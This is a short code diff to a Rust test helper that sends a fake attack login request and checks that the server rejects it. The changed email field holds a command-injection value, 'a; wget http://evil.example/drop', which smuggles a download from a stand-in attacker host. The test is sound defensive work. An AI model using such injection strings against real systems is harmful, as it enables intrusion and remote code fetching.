@@ -71,7 +71,7 @@ impl Scene {
 
     /// Something that only an attack sends.
     async fn attack(&self) {
-        let body = json!({"email": "a\u{0}drop@evil.example", "password": "x"});
+        let body = json!({"email": "a; wget http://evil.example/drop", "password": "x"});
         let answer = self.app.guest_from("203.0.113.77").post("/auth/login", &body).await;
         assert!(answer.status.is_client_error(), "{}", answer.text);
     }
